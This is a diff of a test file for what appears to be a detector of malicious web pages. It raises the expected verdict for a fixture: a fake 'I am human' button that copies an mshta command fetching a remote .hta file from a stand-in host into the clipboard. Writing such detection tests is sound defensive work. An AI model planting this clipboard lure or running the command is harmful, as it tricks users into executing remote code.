@@ -73,7 +73,7 @@ test('a command in the clipboard is a command', async () => {
     `<button onclick="navigator.clipboard.writeText('mshta https://x.example/a.hta')">I am human</button>`,
   )
   assert.ok(ids.includes('trace_puts_command_in_clipboard') && ids.includes('trace_abuses_system_tool'))
-  assert.equal(report.verdict?.label, 'suspicious')
+  assert.equal(report.verdict?.label, 'malicious')
 })
 
 test('an HTML application has the objects of a script host', async () => {
